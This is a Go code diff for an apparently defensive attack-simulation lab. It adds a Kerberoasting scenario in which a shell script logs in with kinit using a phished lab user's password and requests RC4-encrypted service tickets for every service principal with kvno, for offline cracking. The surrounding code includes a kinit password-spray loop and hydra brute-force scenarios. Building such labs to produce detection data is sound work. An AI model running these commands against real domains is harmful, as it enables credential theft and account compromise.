@@ -32,6 +32,7 @@ func init() {
 			"hydra guesses SMB passwords of the server's Samba (hydra's smb module: SMB1 with NTLM, one connection per try)."),
 		mysqlBrute(),
 		kerberosSpray(),
+		kerberoasting(),
 		bruteScenario("bruteforce-rdp", "bruteforce.rdp", hostServer, "rdp://%s",
 			"hydra tries RDP logins on the server's xrdp (no NLA: xrdp decides on its login screen, so hydra's verdicts mean nothing, but every try is a real RDP connection over TLS)."),
 		&Scenario{
@@ -167,6 +168,35 @@ func kerberosSpray() *Scenario {
 			}
 			script := fmt.Sprintf("for p in $(cat %s); do for u in $(cat %s); do echo \"$p\" | KRB5_CONFIG=%s kinit \"$u@%s\" >/dev/null 2>&1; done; done; true",
 				pw, a.w.path("words/users.txt"), conf, krbRealm)
+			return a.runUpTo(hostAtk, a.duration, "sh", "-c", script)
+		},
+	}
+}
+
+// kerberoasting is an insider with a domain account (the lab user's
+// password, phished) asking srv's KDC for the service tickets of every
+// service principal of the realm with kvno; the services have RC4 keys
+// only, so the tickets come encrypted with RC4, to crack offline.
+func kerberoasting() *Scenario {
+	return &Scenario{
+		Name: "kerberoasting", Difficulty: Medium,
+		Description: fmt.Sprintf("Kerberoasting: with %s's password, kinit gets a ticket-granting ticket from the KDC of realm %s on srv, "+
+			"then kvno asks for the service tickets of the realm's %d service principals (%s), RC4-encrypted.",
+			labUser, krbRealm, len(krbServices), strings.Join(krbServices, ", ")),
+		Tools: []string{"kinit", "kvno", "krb5kdc", "kdb5_util", "kadmin.local"}, Classes: []string{"kerberos.kerberoast"}, MITRE: []string{"T1558.003"},
+		Attacker: hostPtr(hostAtk), Victims: v4(hostServer), Duration: 15 * time.Second,
+		services: []service{{hostServer, "krb5kdc", krb5kdcConfig, []int{88}, []int{88}}},
+		attack: func(a *attackRun) error {
+			conf, err := krb5Client(a.w)
+			if err != nil {
+				return err
+			}
+			var spns []string
+			for _, s := range krbServices {
+				spns = append(spns, "'"+s+"@"+krbRealm+"'")
+			}
+			script := fmt.Sprintf("export KRB5_CONFIG=%s KRB5CCNAME=FILE:%s; echo '%s' | kinit %s@%s >/dev/null && kvno %s; true",
+				conf, a.w.path("krb5/attacker.ccache"), labUserPassword, labUser, krbRealm, strings.Join(spns, " "))
 			return a.runUpTo(hostAtk, a.duration, "sh", "-c", script)
 		},
 	}
